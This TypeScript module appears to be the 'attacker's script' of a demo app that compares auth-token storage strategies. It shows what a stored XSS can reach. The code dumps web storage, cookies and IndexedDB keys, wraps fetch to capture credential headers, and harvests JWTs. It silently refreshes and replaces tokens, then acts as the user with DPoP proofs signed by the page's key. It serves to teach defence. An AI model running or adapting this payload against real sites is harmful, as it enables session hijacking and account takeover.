import { isKeyPair, signDpopProof } from '../../lib/dpop-proof';

/**
 * THE ATTACKER'S SCRIPT. Everything here is what a stored XSS would run in this page. It is the
 * one deliberate exception to the rule that only the strategy module (features/auth/strategies/)
 * touches storage, cookies, IndexedDB and the Authorization, DPoP and X-CSRF-Token headers: an
 * injected script obeys no module boundary, and showing exactly what it can reach is the point.
 * It never asks the page's code what the strategy is: it reads everything generically, wraps
 * fetch, and uses whatever it finds, as a real payload written against this app would.
 */

/** Everything a script on this page can read without asking anyone. */
export interface StorageLoot {
  localStorage: Record<string, string>;
  sessionStorage: Record<string, string>;
  'document.cookie': string;
  /** Keys found in IndexedDB: what they are, and whether the script could export them. */
  indexedDB: FoundKey[];
}

interface FoundKey {
  where: string;
  algorithm: string;
  extractable: boolean;
  usages: string[];
  /** Why `crypto.subtle.exportKey` refused, or null when it handed the private key over. */
  exportRefused: string | null;
}

export async function readEverythingAScriptCan(): Promise<StorageLoot> {
  return {
    localStorage: dump(window.localStorage),
    sessionStorage: dump(window.sessionStorage),
    // HttpOnly cookies never appear here: that is all HttpOnly does.
    'document.cookie': document.cookie,
    indexedDB: (await findKeys()).map(({ found }) => found),
  };
}

function dump(storage: Storage): Record<string, string> {
  const entries: Record<string, string> = {};
  for (let index = 0; index < storage.length; index++) {
    const key = storage.key(index);
    if (key !== null) entries[key] = storage.getItem(key) ?? '';
  }
  return entries;
}

interface KeyInPage {
  found: FoundKey;
  pair: CryptoKeyPair;
}

/** Every CryptoKeyPair in every IndexedDB database of the origin, as a script enumerates them. */
async function findKeys(): Promise<KeyInPage[]> {
  if (typeof indexedDB === 'undefined' || typeof indexedDB.databases !== 'function') return [];
  const keys: KeyInPage[] = [];
  for (const { name } of await indexedDB.databases()) {
    if (!name) continue;
    const database = await new Promise<IDBDatabase | null>((resolve) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => resolve(null);
    });
    if (!database) continue;
    try {
      for (const storeName of database.objectStoreNames) {
        const store = database.transaction(storeName, 'readonly').objectStore(storeName);
        const [values, ids] = await Promise.all([requestOf<unknown[]>(store.getAll()), requestOf<IDBValidKey[]>(store.getAllKeys())]);
        for (const [index, value] of values.entries()) {
          if (!isKeyPair(value)) continue;
          const exportRefused = await crypto.subtle.exportKey('jwk', value.privateKey).then(
            () => null,
            (error: unknown) => (error instanceof Error ? `${error.name}: ${error.message}` : String(error)),
          );
          keys.push({
            pair: value,
            found: {
              where: `indexedDB["${name}"]["${storeName}"][${JSON.stringify(ids[index])}]`,
              algorithm: JSON.stringify(value.privateKey.algorithm),
              extractable: value.privateKey.extractable,
              usages: [...value.privateKey.usages],
              exportRefused,
            },
          });
        }
      }
    } finally {
      database.close();
    }
  }
  return keys;
}

function requestOf<T>(request: IDBRequest): Promise<T> {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result as T);
    request.onerror = () => reject(request.error ?? new Error('IndexedDB request failed'));
  });
}

/** The credential headers of one request the page sent while fetch was wrapped. */
export interface CaughtRequest {
  request: string;
  authorization: string | null;
  dpop: string | null;
  csrfToken: string | null;
}

/**
 * Wraps `window.fetch`, lets the page send its next API request (`nudge`: the page doing what it
 * does anyway, here loading its private data), and keeps the credential headers of that request.
 * Where the token lives does not matter: the page has to put it on the wire.
 */
export async function catchNextRequest(nudge: () => Promise<unknown>, timeoutMs = 5_000): Promise<CaughtRequest | null> {
  // globalThis is the window in a browser; tests run where the two are different objects.
  const original = globalThis.fetch;
  let caught: (request: CaughtRequest) => void = () => {};
  const first = new Promise<CaughtRequest>((resolve) => (caught = resolve));
  globalThis.fetch = function wrapped(input: RequestInfo | URL, init?: RequestInit) {
    const headers = new Headers(init?.headers ?? (input instanceof Request ? input.headers : undefined));
    const url = typeof input === 'string' ? input : input instanceof URL ? input.href : input.url;
    if (new URL(url, location.href).pathname.startsWith('/api/')) {
      caught({
        request: `${init?.method ?? 'GET'} ${new URL(url, location.href).pathname}`,
        authorization: headers.get('authorization'),
        dpop: headers.get('dpop'),
        csrfToken: headers.get('x-csrf-token'),
      });
    }
    return original.call(globalThis, input, init);
  };
  try {
    void nudge();
    return await Promise.race([first, new Promise<null>((resolve) => setTimeout(() => resolve(null), timeoutMs))]);
  } finally {
    globalThis.fetch = original;
  }
}

const JWT = /eyJ[\w-]{0,4096}\.eyJ[\w-]{0,8192}\.[\w-]{1,1024}/g;

/** A token found in the loot, and where: what the attacker now holds. */
export interface FoundToken {
  where: string;
  value: string;
  typ: string | null;
}

/** Every JWT anywhere in what was taken (JSON inside a string included), as the attacker would search. */
export function findTokens(data: unknown, path: string[] = []): FoundToken[] {
  if (typeof data === 'string') return [...data.matchAll(JWT)].map(([value]) => ({ where: describePath(path), value, typ: headerType(value) }));
  if (typeof data !== 'object' || data === null) return [];
  return Object.entries(data).flatMap(([key, value]) => findTokens(value, [...path, key]));
}

function describePath([first = '', ...rest]: string[]): string {
  return first + rest.map((key) => `[${JSON.stringify(key)}]`).join('');
}

function headerType(token: string): string | null {
  try {
    const encoded = token.split('.')[0]!.replace(/-/g, '+').replace(/_/g, '/');
    const header: unknown = JSON.parse(atob(encoded));
    const typ = typeof header === 'object' && header !== null ? (header as { typ?: unknown }).typ : undefined;
    return typeof typ === 'string' ? typ : null;
  } catch {
    return null;
  }
}

/** One request the script made itself, from the page. */
export interface ScriptRequest {
  request: string;
  /** How it authenticated: which of the page's things it used. */
  using: string;
  status: number | null;
  answer: unknown;
}

/** The CSRF token of the session, wherever the page keeps one a script can read. */
function findCsrfToken(loot: StorageLoot): string | null {
  for (const area of ['localStorage', 'sessionStorage'] as const) {
    for (const value of Object.values(loot[area])) {
      const match = /"csrfToken"\s*:\s*"([^"]+)"/.exec(value);
      if (match) return match[1]!;
    }
  }
  const cookie = /(?:^|;\s*)[\w-]*csrf[\w-]*=([^;]+)/i.exec(loot['document.cookie']);
  return cookie ? decodeURIComponent(cookie[1]!) : null;
}

async function proofWith(keys: KeyInPage[], method: string, path: string, accessToken?: string): Promise<string | null> {
  const [key] = keys;
  if (!key) return null;
  return signDpopProof(key.pair, { htm: method, htu: new URL(path, location.href).href, iat: Math.floor(Date.now() / 1000), ...(accessToken ? { accessToken } : {}) });
}

async function call(method: string, path: string, init: { headers: Record<string, string>; body?: string }, using: string): Promise<ScriptRequest> {
  const request = `${method} ${path}`;
  try {
    const response = await fetch(path, { method, headers: init.headers, body: init.body ?? null, credentials: 'same-origin' });
    return { request, using, status: response.status, answer: await response.json().catch(() => null) };
  } catch {
    return { request, using, status: null, answer: null };
  }
}

/**
 * Calls the refresh route with whatever the page itself would send: a refresh token found in
 * storage (in the body, with a proof from the page's key if there is one), the cookies the
 * browser adds anyway, and a CSRF token it found. Then it puts the new tokens back where it found
 * the old ones, so that the page notices nothing.
 */
export async function refreshAsThePage(loot: StorageLoot): Promise<ScriptRequest> {
  const keys = await findKeys();
  const refreshTokens = findTokens({ localStorage: loot.localStorage, sessionStorage: loot.sessionStorage }).filter((token) => token.typ === 'rt+jwt');
  const [refresh] = refreshTokens;
  const headers: Record<string, string> = { 'content-type': 'application/json', accept: 'application/json' };
  const csrfToken = findCsrfToken(loot);
  const using: string[] = ['the cookies the browser adds'];
  if (csrfToken) {
    headers['x-csrf-token'] = csrfToken;
    using.push('the CSRF token it read');
  }
  if (refresh) using.push(`the refresh token from ${refresh.where}`);
  const proof = refresh ? await proofWith(keys, 'POST', '/api/auth/refresh') : null;
  if (proof) {
    headers.dpop = proof;
    using.push("a DPoP proof signed with the page's own key");
  }
  const result = await call('POST', '/api/auth/refresh', { headers, body: JSON.stringify(refresh ? { refreshToken: refresh.value } : {}) }, using.join(', '));
  if (result.status === 200 && refresh) putBack(refreshTokens, findTokens({ localStorage: loot.localStorage, sessionStorage: loot.sessionStorage }), result.answer);
  return result;
}

/** Writes a refresh answer's tokens over the ones the page stored, where it stored them. */
function putBack(refreshTokens: FoundToken[], allTokens: FoundToken[], answer: unknown) {
  const fresh = answer as { accessToken?: unknown; refreshToken?: unknown };
  const write = (where: string, value: unknown) => {
    const match = /^(localStorage|sessionStorage)\["(.+)"\]$/.exec(where);
    if (match && typeof value === 'string') window[match[1] as 'localStorage' | 'sessionStorage'].setItem(match[2]!, value);
  };
  for (const token of refreshTokens) write(token.where, fresh.refreshToken);
  for (const token of allTokens.filter((found) => found.typ === 'at+jwt')) write(token.where, fresh.accessToken);
}

/**
 * Acts as the user from the open page, with the best it has: a token it caught or found, signed
 * for with the page's own key when the token is bound to one (DPoP); or, with no token at all,
 * the cookie the browser attaches to every request from this page (session riding).
 */
export async function actFromThePage(loot: StorageLoot, caught: CaughtRequest | null, refreshed: ScriptRequest | null): Promise<ScriptRequest> {
  const keys = await findKeys();
  const fromRefresh = (refreshed?.answer as { accessToken?: unknown } | null)?.accessToken;
  const caughtToken = caught?.authorization?.replace(/^(Bearer|DPoP) /, '');
  const storedToken = findTokens({ localStorage: loot.localStorage, sessionStorage: loot.sessionStorage }).find((token) => token.typ === 'at+jwt')?.value;
  const token = typeof fromRefresh === 'string' ? fromRefresh : (caughtToken ?? storedToken);
  const source = typeof fromRefresh === 'string' ? 'the access token its refresh returned' : caughtToken ? "the token it caught on the page's request" : 'the token it read from storage';
  const headers: Record<string, string> = { accept: 'application/json' };
  if (!token) return call('GET', '/api/private', { headers }, 'no token: only the cookie the browser adds by itself');
  const proof = await proofWith(keys, 'GET', '/api/private', token);
  if (proof) {
    headers.authorization = `DPoP ${token}`;
    headers.dpop = proof;
    return call('GET', '/api/private', { headers }, `${source}, with a fresh DPoP proof it signed with the page's non-extractable key`);
  }
  headers.authorization = `Bearer ${token}`;
  return call('GET', '/api/private', { headers }, `${source}, as a Bearer header`);
}
